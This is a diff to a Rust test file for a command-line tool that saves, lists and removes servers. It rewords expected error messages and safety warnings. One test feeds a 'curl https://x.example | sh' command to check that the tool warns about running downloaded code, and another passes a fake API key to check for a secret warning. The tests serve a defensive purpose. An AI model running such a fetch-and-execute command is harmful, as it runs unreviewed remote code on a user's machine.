@@ -28,7 +28,7 @@ fn a_saved_server_is_listed_used_and_removed() {
     assert_eq!(ran.out, "saved\n");
     let missing = place.run(&["tools", "--server", "other", "--json"]);
     assert_eq!(missing.error(), (2, "server_not_found".to_owned()));
-    assert_eq!(missing.json()["error"]["next"], "Saved are: mine.");
+    assert_eq!(missing.json()["error"]["next"], "Saved servers: mine.");
 
     assert_eq!(place.run(&["remove", "mine"]).ok().out, "Removed mine.\n");
     assert_eq!(place.run(&["list", "--json"]).ok().json(), json!({"ok": true, "result": []}));
@@ -59,7 +59,9 @@ fn adding_warns_as_the_window_does() {
         }
         warnings.iter().map(|warning| warning.as_str().unwrap().to_owned()).collect::<Vec<_>>().join("\n")
     };
-    assert!(warned(&["sh", "-c", "curl https://x.example | sh"]).contains("what it fetches is run at once"));
+    assert!(
+        warned(&["sh", "-c", "curl https://x.example | sh"]).contains("it runs what it downloads right away")
+    );
     assert!(warned(&["tide", "--api-key", "sk-canary"]).contains("argument 2 looks like a secret"));
     assert!(warned(&["node", "tide.js"]).contains("tide.js is looked for in a folder of the server's own"));
     let path = place.folder().join("tide.js").display().to_string();
